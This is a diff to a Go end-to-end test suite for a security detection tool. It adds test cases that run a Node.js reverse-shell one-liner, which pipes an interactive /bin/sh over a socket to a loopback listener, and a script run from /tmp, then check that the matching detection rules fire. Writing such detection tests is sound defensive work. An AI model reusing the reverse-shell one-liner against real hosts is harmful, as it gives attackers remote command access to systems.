@@ -3,6 +3,7 @@ package e2e
 import (
 	"fmt"
 	"os"
+	"os/exec"
 	"path/filepath"
 	"testing"
 
@@ -42,6 +43,32 @@ func init() {
 				return fmt.Sprintf(`process.executable.name:~"^perl" process.command_line:~%q`, fmt.Sprintf("sockaddr_in.%d,", port))
 			},
 			expect: []expected{{"VGL-EXEC-012", "T1059"}, {"VGL-NET-004", "T1095"}},
+		},
+		behaviour{
+			// Node.js comes with npm, which `make integration` installs for
+			// the LogQL grammar (test/setup/logql.sh).
+			name: "node one-liner wiring a socket to a shell, to a loopback listener",
+			perform: func(t *testing.T, a *arena) string {
+				node, err := exec.LookPath("node")
+				require.NoError(t, err, "Node.js: test/setup/logql.sh installs it")
+				port := shellCatcher(t)
+				a.hostMayFail(t, "timeout", "10", node, "-e", fmt.Sprintf("const s=require('net').connect(%d,'127.0.0.1',()=>{"+
+					"const sh=require('child_process').spawn('/bin/sh',['-i']);s.pipe(sh.stdin);sh.stdout.pipe(s);sh.stderr.pipe(s)})", port))
+				return fmt.Sprintf(`process.executable.name:~"^node" process.command_line:~%q`, fmt.Sprintf("connect.%d,", port))
+			},
+			expect: []expected{{"VGL-EXEC-012", "T1059"}, {"VGL-NET-004", "T1095"}},
+		},
+		behaviour{
+			name: "node script run from /tmp",
+			perform: func(t *testing.T, a *arena) string {
+				node, err := exec.LookPath("node")
+				require.NoError(t, err, "Node.js: test/setup/logql.sh installs it")
+				file := filepath.Join(tmpDir(t), "stage.js")
+				require.NoError(t, os.WriteFile(file, []byte("console.log('staged')\n"), 0o644))
+				a.host(t, node, file)
+				return fmt.Sprintf(`vigil.process.script.path:=%q`, file)
+			},
+			expect: []expected{{"VGL-EXEC-018", "T1059"}},
 		},
 		behaviour{
 			name: "download from the loopback web server into /tmp and run it",
